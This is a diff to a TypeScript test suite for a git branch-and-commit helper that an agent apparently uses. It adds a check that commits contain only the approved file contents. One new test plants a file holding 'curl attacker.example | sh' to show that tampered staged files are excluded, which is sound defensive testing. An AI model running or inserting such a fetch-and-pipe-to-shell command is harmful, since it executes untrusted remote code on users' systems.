@@ -66,9 +66,11 @@ async function run(repo: TestRepo, options: Partial<ChangeBranchOptions> = {}, p
   await branch.reset() // the agent resets before each attempt
   const applied = await branch.apply(patch, ['src/greet.txt'])
   expect(applied.exitCode, applied.stderr).toBe(0)
+  // As the agent commits: the approved contents go with the request.
+  const files = [{ path: 'src/greet.txt', content: repo.read('src/greet.txt') }]
   const made =
     (await branch.reuseExisting()) ??
-    (await branch.commit([{ message: MESSAGE, patch, paths: ['src/greet.txt'] }], {
+    (await branch.commit([{ message: MESSAGE, patch, paths: ['src/greet.txt'], files }], {
       signoff: true
     }))
   await branch.pushBranch()
@@ -77,12 +79,14 @@ async function run(repo: TestRepo, options: Partial<ChangeBranchOptions> = {}, p
 }
 
 describe('ChangeBranch: the happy paths', () => {
-  it('push: true creates the branch from the base, commits once and pushes, in 9 git processes', async () => {
-    // 7, and a check of the repository's config before each of the two remote commands
+  it('push: true creates the branch from the base, commits once and pushes, in 23 git processes', async () => {
+    // 6 of its own; 6 for the three remote commands (ls-remote, the push access check, the push),
+    // each after a check of the repository's config; 11 to build the commit from the approved
+    // contents in a private index and move the branch to it
     const repo = repoWith()
     const base = repo.git('rev-parse', 'HEAD')
     const { git, made } = await run(repo)
-    expect(git.processCount).toBe(9)
+    expect(git.processCount).toBe(23)
     expect(made).toHaveLength(1)
     const [commit] = made
     expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(commit!.sha)
@@ -96,11 +100,11 @@ describe('ChangeBranch: the happy paths', () => {
     expect(repo.git('config', '--list', '--show-origin')).not.toMatch(/extraheader/i)
   })
 
-  it('push: false commits on the checked-out base for a pull-request step, in 6 git processes', async () => {
+  it('push: false commits on the checked-out base for a pull-request step, in 17 git processes', async () => {
     const repo = repoWith()
     const base = repo.git('rev-parse', 'HEAD')
     const { git, made } = await run(repo, { push: false })
-    expect(git.processCount).toBe(6)
+    expect(git.processCount).toBe(17)
     const sha = made[0]!.sha
     expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe('main')
     expect(repo.git('rev-parse', 'main')).toBe(sha)
@@ -293,6 +297,40 @@ describe('ChangeBranch: the user’s uncommitted work', () => {
     expect(() => repo.git('merge', '-q', 'side')).toThrow()
     const error = await failure(prepare(repo))
     expect(error).toMatchObject({ code: 'GIT_CONFLICT', details: { rule: 'unmerged-paths' } })
+  })
+})
+
+describe('ChangeBranch: the commit is the approved change', () => {
+  it('builds the tree from the approved contents, whatever the shared index and work tree hold', async () => {
+    const repo = repoWith()
+    const base = repo.git('rev-parse', 'HEAD')
+    const { branch } = await prepare(repo, { push: false })
+    await branch.create()
+    await branch.apply(GREETING, ['src/greet.txt'])
+    const approved = repo.read('src/greet.txt')
+    // What a process left behind after the last check would have committed with `git commit`.
+    writeFileSync(join(repo.dir, 'src/greet.txt'), 'tampered\n')
+    writeFileSync(join(repo.dir, 'planted.sh'), 'curl attacker.example | sh\n')
+    repo.git('add', 'src/greet.txt', 'planted.sh')
+    const [made] = await branch.commit(
+      [
+        {
+          message: MESSAGE,
+          patch: GREETING,
+          paths: ['src/greet.txt'],
+          files: [{ path: 'src/greet.txt', content: approved }]
+        }
+      ],
+      { signoff: true }
+    )
+    expect(repo.git('show', `${made!.sha}:src/greet.txt`)).toBe(approved.trimEnd())
+    expect(repo.git('diff', '--name-only', base, made!.sha)).toBe('src/greet.txt')
+    expect(repo.git('rev-parse', `${made!.sha}^`)).toBe(base)
+    expect(repo.git('log', '-1', '--format=%B', made!.sha)).toMatch(/Fixes #3\n\nSigned-off-by: /)
+    // The index and the work tree are the commit: what was staged beside it is gone.
+    expect(repo.git('status', '--porcelain')).toBe('')
+    expect(existsSync(join(repo.dir, 'planted.sh'))).toBe(false)
+    expect(repo.read('src/greet.txt')).toBe(approved)
   })
 })
 
